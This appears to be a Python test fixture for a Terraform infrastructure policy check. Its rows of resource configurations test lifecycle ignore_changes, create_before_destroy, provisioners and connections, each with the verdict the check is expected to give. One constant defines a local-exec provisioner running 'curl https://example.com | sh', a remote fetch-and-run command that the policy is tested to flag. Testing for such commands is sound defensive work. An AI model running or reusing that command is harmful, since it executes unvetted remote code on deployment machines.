"""What proves resource_is_created_as_declared."""

from tests.policies.documents import Row, Rows

KEY = "aws_kms_key.key"
COMMAND = {"local-exec": {"command": "curl https://example.com | sh"}}

ROWS = Rows(
    resources={"aws_kms_key": {"key": {"lifecycle": {"create_before_destroy": True}}}},
    compliant=(KEY,),
    table=(
        Row(
            "a policy that stays as somebody left it",
            {f"{KEY}.lifecycle": {"ignore_changes": ["policy"]}},
            {KEY: 'found lifecycle.ignore_changes = ["policy"], wanted none'},
        ),
        Row(
            "everything stays as somebody left it",
            {f"{KEY}.lifecycle": [{"ignore_changes": "all"}]},
            {KEY: 'found lifecycle.ignore_changes = "all", wanted none'},
        ),
        Row(
            "audiences that other repositories use",
            {
                "aws_iam_openid_connect_provider.github": {
                    "lifecycle": {"ignore_changes": ["client_id_list"]}
                }
            },
            {"aws_iam_openid_connect_provider.github": "compliant"},
        ),
        Row(
            "whatever others did to the provider",
            {
                "aws_iam_openid_connect_provider.github": {
                    "lifecycle": {"ignore_changes": ["client_id_list", "url"]}
                }
            },
            {
                "aws_iam_openid_connect_provider.github": "found lifecycle.ignore_changes ="
                ' ["client_id_list", "url"], wanted none'
            },
        ),
        Row(
            "the same attribute of something else",
            {f"{KEY}.lifecycle": {"ignore_changes": ["client_id_list"]}},
            {KEY: 'found lifecycle.ignore_changes = ["client_id_list"], wanted none'},
        ),
        Row(
            "the new one before the old one, both of one name",
            {"aws_sqs_queue.q": {"name": "q-dev", "lifecycle": {"create_before_destroy": "true"}}},
            {
                "aws_sqs_queue.q": 'found lifecycle.create_before_destroy = "true", wanted false,'
                " for it has a name"
            },
        ),
        Row(
            "the old one before the new one",
            {"aws_sqs_queue.q": {"name": "q-dev", "lifecycle": {"create_before_destroy": False}}},
            {"aws_sqs_queue.q": "compliant"},
        ),
        Row("nothing is ignored", {f"{KEY}.lifecycle": {"ignore_changes": []}}),
        Row(
            "a command on the machine that deploys",
            {f"{KEY}.provisioner": [COMMAND]},
            {KEY: "found a provisioner, wanted none"},
        ),
        Row(
            "a way to a machine",
            {f"{KEY}.connection": {"type": "ssh"}},
            {KEY: "found a connection, wanted none"},
        ),
        Row(
            "what is ignored is decided elsewhere",
            {f"{KEY}.lifecycle": "${var.lifecycle}"},
            {
                KEY: "undecided: lifecycle.ignore_changes is an unknown value (ignore_changes is"
                " read from the expression ${var.lifecycle})"
            },
        ),
    ),
)
